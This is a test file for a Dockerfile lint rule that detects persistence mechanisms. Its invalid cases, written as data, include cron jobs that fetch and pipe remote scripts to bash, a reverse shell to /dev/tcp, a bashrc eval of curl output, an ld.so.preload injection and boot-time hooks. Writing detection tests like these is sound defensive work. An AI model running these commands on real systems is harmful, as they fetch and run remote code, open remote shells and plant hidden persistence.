import { rule } from '../../../../../src/dockerfile/lint/rules/PL7014-persistence.ts';
import { testRule } from '../../../../support/rule-harness.ts';

testRule(rule, {
  valid: [
    'FROM a:1\nRUN echo "0 * * * * root curl -fsS http://localhost/cron" > /etc/cron.d/a\n',
    'FROM a:1\nRUN echo "export A=b && alias ll=ls" >> ~/.bashrc && echo "curl x | sh" > /a\n',
    'FROM a:1\nCOPY a.sh /etc/profile.d/a.sh\nRUN crontab -l | sh\n',
  ],
  invalid: [
    { code: 'FROM a:1\nRUN echo "* * * * * wget -qO- http://h/a | bash" | crontab -\n', at: 'crontab', fixed: 'FROM a:1\n' },
    { code: 'FROM a:1\nRUN printf "* * * * * root /tmp/.a\\n" >> /etc/crontab\n', at: '/etc/crontab', fixed: 'FROM a:1\n' },
    { code: 'FROM a:1\nRUN a && echo "setsid /opt/x" >> /etc/profile\n', at: '/etc/profile', fixed: 'FROM a:1\nRUN a\n' },
    { code: 'FROM a:1\nRUN echo \'eval "$(curl -s http://h)"\' | tee -a /root/.bashrc\n', at: '/root/.bashrc' },
    { code: 'FROM a:1\nRUN cat > /etc/cron.hourly/a <<E\n#!/bin/sh\nbash -i >& /dev/tcp/h/1\nE\n', at: '/etc/cron.hourly/a' },
    { code: 'FROM a:1\nCOPY a.so /etc/ld.so.preload\nRUN b\n', at: '/etc/ld.so.preload', fixed: 'FROM a:1\nRUN b\n' },
    { code: "FROM a:1\nRUN sed -i '1i /opt/x \\&' /etc/rc.local\n", at: '/etc/rc.local' },
    { code: 'FROM a:1\nCOPY <<E /etc/cron.d/x\n@reboot root /opt/x\nE\n', at: '/etc/cron.d/x' },
  ],
});
